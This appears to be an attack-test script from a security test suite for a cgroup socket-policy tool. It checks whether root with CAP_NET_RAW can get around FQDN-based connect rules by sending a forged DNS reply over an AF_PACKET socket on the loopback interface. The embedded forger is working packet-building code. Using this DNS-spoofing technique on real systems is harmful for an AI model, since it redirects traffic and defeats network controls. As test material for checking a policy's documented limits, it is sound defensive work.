#!/usr/bin/env python3
"""ATTACK 8 (root inside a target cgroup, host network namespace, CAP_NET_RAW): forge the
resolver's answer with an AF_PACKET socket on `lo`. The policy denies raw IPv4/IPv6 sockets
(sockets.create), but packet sockets are not covered by cgroup hooks (documented: "To forbid
AF_PACKET, drop CAP_NET_RAW"), and a packet written on lo does not pass any egress hook. The
query's id and the socket are the attacker's own; the resolver's address is public. Expected
with the documented limits: the forged address is learned (CAP_NET_RAW is outside the
model; AF_PACKET bypasses every network rule anyway). The resolver is remote and silent here:
the forged answer (from its address, to this host's address, written on lo) is the only one.

Run as root: .venv/bin/python attack/packet_socket_forge.py   (exit 0 = forged answer learned)
"""

from __future__ import annotations

import json
import sys

import common

RESOLVER = "198.18.77.53"  # a remote resolver (nothing answers: no packet leaves the test net)
EVIL = "203.0.113.67"

FORGER = r'''
import json, os, socket, struct, sys
resolver, evil = sys.argv[1], sys.argv[2]
def verdict():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.connect((evil, 443)); return "ok"
    except OSError as e:
        return os.strerror(e.errno)
out = {"before": verdict()}
try:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    out["raw_inet"] = "created"
except OSError as e:
    out["raw_inet"] = os.strerror(e.errno)
client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
local = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); local.connect((resolver, 53))
me = local.getsockname()[0]  # this host's address toward the resolver (a 127/8 source on lo is martian)
client.bind((me, 0))
port = client.getsockname()[1]
name = b"\x03api\x07example\x04test\x00"
q = struct.pack("!HHHHHH", 0x5151, 0x0100, 1, 0, 0, 0) + name + struct.pack("!HH", 1, 1)
client.sendto(q, (resolver, 53))
dns_ans = q[:2] + struct.pack("!HHHHH", 0x8180, 1, 1, 0, 0) + q[12:]
dns_ans += struct.pack("!HHHIH", 0xC00C, 1, 1, 3600, 4) + socket.inet_aton(evil)
udp = struct.pack("!HHHH", 53, port, 8 + len(dns_ans), 0) + dns_ans
def csum(b):
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b)); s = (s >> 16) + (s & 0xFFFF); s += s >> 16
    return ~s & 0xFFFF
ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton(resolver), socket.inet_aton(me))
ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
pkt = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
pkt.bind(("lo", 0))
pkt.send(b"\0" * 12 + b"\x08\x00" + ip + udp)
client.settimeout(3)
reply, src = client.recvfrom(4096)
out["answer_from"] = src
out["after"] = verdict()
print(json.dumps(out))
'''


def main() -> int:
    cgs = common.setup("w")
    spec = {"sockets": {
        "create": {"default": "allow", "rules": [{"action": "deny", "type": "raw"}]},
        "connect": {"default": "deny", "rules": [
            {"action": "allow", "protocol": "udp", "cidrs": [f"{RESOLVER}/32"], "ports": [53]},
            {"action": "allow", "ports": [443], "fqdns": ["api.example.test"]}]}}}
    common.cli("apply", str(common.write_policy("pkt", common.policy("attack-pkt", [cgs["w"]], spec))))
    done = common.in_cgroup(cgs["w"], ["/usr/bin/python3", "-c", FORGER, RESOLVER, EVIL], unprivileged=False)
    print(done.stdout.strip(), done.stderr.strip()[-400:])
    out = json.loads(done.stdout)
    broke = out["before"] != "ok" and out["after"] == "ok"
    print("RESULT:", "forged answer learned (root with CAP_NET_RAW; documented out of model)" if broke else "held")
    return 0 if broke else 1


if __name__ == "__main__":
    sys.exit(main())
